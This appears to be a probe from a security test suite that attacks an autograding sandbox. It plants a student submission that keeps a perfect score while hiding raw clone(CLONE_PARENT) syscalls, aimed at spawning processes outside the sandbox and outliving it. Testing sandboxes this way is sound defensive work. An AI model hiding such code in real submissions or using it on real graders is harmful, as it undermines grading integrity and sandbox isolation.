"""a07: clone's exit-signal filter and CLONE_PARENT, from the kernel and from a check's child, as root.
Raw clone(CLONE_PARENT | sig) makes the new process a child of the CALLER's parent (the kernel's: the template's
child / sandbox launcher; the check child's: the observer), with the caller's own exit signal. Tried: sig = SIGCHLD
(allowed), 0 (allowed), SIGSTOP and SIGCONT|high-bits (must be EPERM); siblings that exit at once (the parent gets
an unexpected SIGCHLD) and one that sleeps 30 s (does it outlive the sandbox?). Otherwise the real solution:
mallory should keep 24/24 if nothing else breaks; controls beside."""
import os, sys, subprocess
sys.path.insert(0, os.path.dirname(__file__))
from common import course, scores, report
CLONE = __import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))
sys.path.insert(0, CLONE)
import nbformat
from tools.submissions import solution_text

src = nbformat.read(CLONE + "/source/ps1_memory/ps1_memory.ipynb", 4)
sol = {c.metadata["nbgrader"]["grade_id"]: solution_text(c) for c in src.cells
       if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"}

SIDE = r'''
def _clone_parent_tries():
    import ctypes, os, time
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    out = []
    for sig, life in ((17, 0), (0, 0), (17, 30), (19, 0), (18 | (1 << 32), 0), (17 | 0x8000, 0)):
        ctypes.set_errno(0)
        r = libc.syscall(56, ctypes.c_long(sig | 0x00008000), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
        if r == 0:  # the new process (no Python fork handling): sleep or leave at once
            if life:
                libc.sleep(life)
            libc._exit(0)
        out.append(f"clone(CLONE_PARENT|{sig:#x}) -> {r} errno {ctypes.get_errno()}")
    time.sleep(0.2)
    return out
'''
KERNEL = SIDE + "print('KERNEL-CLONE', _clone_parent_tries(), 'ppid', os.getppid() if 'os' in dir() else None)\n"
code = "import os\n" + KERNEL + sol["training_memory"].replace("def training_memory(", "def _real_training_memory(", 1) + (
    "\n\ndef training_memory(*a, **k):\n    import sys\n    obs = sys.modules.get('probes.observer')\n"
    "    if obs is not None and obs.ACTIVE:\n        _clone_parent_tries()\n    return _real_training_memory(*a, **k)\n")

root, p = course("a07", "ps1_memory", {"mallory": {"training_memory": code}})
print("scores:", scores(root))
print("report:", report(root))
import json
nb = json.load(open(f"{root}/autograded/mallory/ps1_memory/ps1_memory.ipynb"))
for c in nb["cells"]:
    for o in c.get("outputs", []):
        t = o.get("text") or o.get("evalue") or ""
        t = "".join(t) if isinstance(t, list) else t
        if "KERNEL-CLONE" in t or "Error" in str(o.get("ename", "")):
            print(c.get("metadata", {}).get("nbgrader", {}).get("grade_id"), "::", t[:1500])
print("left over processes of sandbox uids:", subprocess.run("ps -eo uid,pid,ppid,stat,cmd | awk '$1>=65470 && $1<=65534'",
      shell=True, capture_output=True, text=True).stdout or "none")
